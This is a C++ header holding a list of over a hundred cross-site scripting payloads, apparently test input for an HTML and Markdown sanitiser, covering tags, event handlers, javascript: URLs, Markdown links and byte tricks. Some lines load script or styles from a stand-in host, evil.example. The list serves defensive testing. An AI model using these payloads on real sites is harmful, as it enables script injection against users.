// Texts that try to become commands. Forms known from the OWASP cheat sheet, the HTML5 Security Cheat
// Sheet and reports against Markdown renderers and sanitisers (mutation, nesting, references).
#pragma once

#include <array>
#include <string_view>

namespace kentongan::html::samples {

inline constexpr auto xss_vectors = std::to_array<std::string_view>({
    // plain elements
    "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<scr<script>ipt>alert(1)</script>",
    "<script/x>alert(1)</script>", "<script\n>alert(1)</script\n>", "<<script>alert(1)//<</script>",
    "</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>", "</p></div><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>", "<img src=\"x` `<script>alert(1)</script>\"` `>",
    "<img/src=x/onerror=alert(1)>", "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\">", "<img src=x:x onerror\n=alert(1)//",
    "<svg onload=alert(1)>", "<svg/onload=alert(1)//", "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<svg><set attributeName=href to=javascript:alert(1)>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math href=javascript:alert(1)>x</math>", "<body onload=alert(1)>", "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>", "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>", "<base href=//evil.example/>", "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>", "<style>@import '//evil.example/x.css';</style>",
    "<p style=\"background:url(javascript:alert(1))\">x</p>", "<form action=javascript:alert(1)><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>", "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>", "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>", "<marquee onstart=alert(1)>x</marquee>", "<isindex action=javascript:alert(1)>",
    "<template><script>alert(1)</script></template>", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">", "<plaintext><script>alert(1)</script>",
    "<select><style></select><img src=x onerror=alert(1)></style>", "<frameset onload=alert(1)>",
    "<portal src=javascript:alert(1)>", "<dialog open onclose=alert(1)>x</dialog>",
    // comments and sections that are read differently by different readers
    "<!--><img src=x onerror=alert(1)>-->", "<!-- --!><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>", "<!DOCTYPE x [<!ENTITY y '<script>'>]>&y;", "<?xml ?><script>alert(1)</script>",
    "<![if<img src=x onerror=alert(1)>]>", "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<a title=\"--><img src=x onerror=alert(1)>\">x</a>", "<a href='x' title=\">\" onclick=alert(1)//\">x</a>",
    // addresses
    "<a href=javascript:alert(1)>x</a>", "<a href=\"JaVaScRiPt:alert(1)\">x</a>", "<a href=\" javascript:alert(1)\">x</a>",
    "<a href=\"java\tscript:alert(1)\">x</a>", "<a href=\"java\nscript:alert(1)\">x</a>",
    "<a href=\"&#106;avascript:alert(1)\">x</a>", "<a href=\"&#x6A&#x61vascript:alert(1)\">x</a>",
    "<a href=\"javascript&colon;alert(1)\">x</a>", "<a href=\"javascript&#58;alert(1)\">x</a>",
    "<a href=\"\x01javascript:alert(1)\">x</a>", "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>", "<a href=\"//evil.example\">x</a>", "<a href=\"/\\evil.example\">x</a>",
    "<a href=\"feed:javascript:alert(1)\">x</a>", "<a href=\"blob:https://x/1\">x</a>",
    "<a href=x onmouseover=alert(1)>x</a>", "<a/href=\"https://x\"onclick=alert(1)>x</a>",
    "<a href=\"https://x\" target=_blank ping=//evil.example>x</a>", "<a href='https://x\"onclick=alert(1)//'>x</a>",
    "<a href=`javascript:alert(1)`>x</a>", "<a href=\"https://x\" href=\"javascript:alert(1)\">x</a>",
    // Markdown
    "[x](javascript:alert(1))", "[x](JAVASCRIPT:alert(1))", "[x]( javascript:alert(1))", "[x](<javascript:alert(1)>)",
    "[x](java&#115;cript:alert(1))", "[x](javascript&colon;alert(1))", "[x](&#x6A;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)", "[x](vbscript:alert(1))", "[x][y]\n\n[y]: javascript:alert(1)",
    "[x](https://a \"\\\" onclick=alert(1) x=\\\"\")", "[x](https://a' onclick='alert(1))", "[x](https://a\"onclick=alert(1))",
    "![x](javascript:alert(1))", "![x\" onerror=alert(1)](https://a)", "![](x \"onerror=alert(1)\")",
    "<javascript:alert(1)>", "<https://a\"onclick=alert(1)>", "<x@y.z\"onclick=alert(1)>", "https://a/\"onclick=alert(1)",
    "www.a.b/<script>alert(1)</script>", "a@b.c<script>alert(1)</script>", "```x\"><script>alert(1)</script>\nx\n```",
    "`<script>alert(1)</script>`", "|a|\n|---|\n|<script>alert(1)</script>|", "# <img src=x onerror=alert(1)>",
    "> <svg onload=alert(1)>", "- <script>\n- alert(1)\n- </script>", "[<script>alert(1)</script>](https://a)",
    "[a]: <script> \"x\"\n[a]", "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\<script>alert(1)\\</script>", "*<script>*alert(1)*</script>*", "[x](//evil.example)", "[x](/\\evil.example)",
    "[x](\\\\evil.example)", "[x](https:javascript:alert(1))", "[x](http:/\\/evil)", "[x](https://a){onclick=alert(1)}",
    // bytes that are no text
    "<\xC0\xBCscript>alert(1)</script>", "\xC0\xBCscript\xC0\xBE" "alert(1)", "<a\xff href=javascript:alert(1)>x</a>",
    "<scr\0ipt>alert(1)</script>", "<img src=x\x0conerror=alert(1)>", "<a href=\"java\xE2\x80\x8Bscript:alert(1)\">x</a>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "\xE2\x80\xAE<script>alert(1)</script>",
});
static_assert(xss_vectors.size() >= 100);

}  // namespace kentongan::html::samples
